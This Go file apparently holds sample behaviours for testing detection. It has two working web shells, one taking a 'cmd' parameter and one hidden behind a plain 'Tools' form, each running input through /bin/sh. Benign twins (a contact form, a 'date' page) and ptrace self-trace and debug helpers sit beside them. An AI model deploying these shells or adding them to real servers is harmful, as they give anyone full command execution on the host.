package main

import (
	"fmt"
	"html"
	"net/http"
	"os/exec"
	"syscall"
)

// webshell runs what its parameter says, and shows what came of it.
func webshell(args []string) error {
	return http.ListenAndServe(":"+arg(args, 0, "8080"), http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		out, err := exec.Command("/bin/sh", "-c", r.FormValue("cmd")).CombinedOutput()
		fmt.Fprintln(w, string(out), err)
	}))
}

// webshellForm runs what is written into a form, which a page leads to.
func webshellForm(args []string) error {
	return form(arg(args, 0, "8080"), func(line string) string {
		out, _ := exec.Command("/bin/sh", "-c", line).CombinedOutput()
		return string(out)
	})
}

// contactForm shows what was written into it.
func contactForm(args []string) error {
	return form(arg(args, 0, "8080"), func(line string) string { return "Thank you for your message: " + line })
}

func form(port string, do func(line string) string) error {
	pages := http.NewServeMux()
	pages.HandleFunc("GET /{$}", func(w http.ResponseWriter, _ *http.Request) {
		fmt.Fprint(w, `<html><h1>Welcome</h1><a href="/tools/">Tools</a></html>`)
	})
	pages.HandleFunc("GET /tools/", func(w http.ResponseWriter, _ *http.Request) {
		fmt.Fprint(w, `<html><form method="post" action="do"><textarea name="line"></textarea><input type="submit"></form></html>`)
	})
	pages.HandleFunc("POST /tools/do", func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprintf(w, "<html><pre>%s</pre></html>", html.EscapeString(do(r.FormValue("line"))))
	})
	return http.ListenAndServe(":"+port, pages)
}

// datePage starts a program for each visitor, with nothing of what he said.
func datePage(args []string) error {
	return http.ListenAndServe(":"+arg(args, 0, "8080"), http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		out, err := exec.Command("/bin/sh", "-c", "date").CombinedOutput()
		fmt.Fprintln(w, string(out), err)
	}))
}

// traceMe asks to be traced, which nobody does.
func traceMe([]string) error {
	if _, _, errno := syscall.Syscall(syscall.SYS_PTRACE, syscall.PTRACE_TRACEME, 0, 0); errno != 0 {
		return errno
	}
	return nil
}

// debug starts a program as a debugger does.
func debug(args []string) error {
	cmd := exec.Command(arg(args, 0, "/bin/true"))
	cmd.SysProcAttr = &syscall.SysProcAttr{Ptrace: true}
	if err := cmd.Start(); err != nil {
		return err
	}
	return cmd.Process.Kill()
}
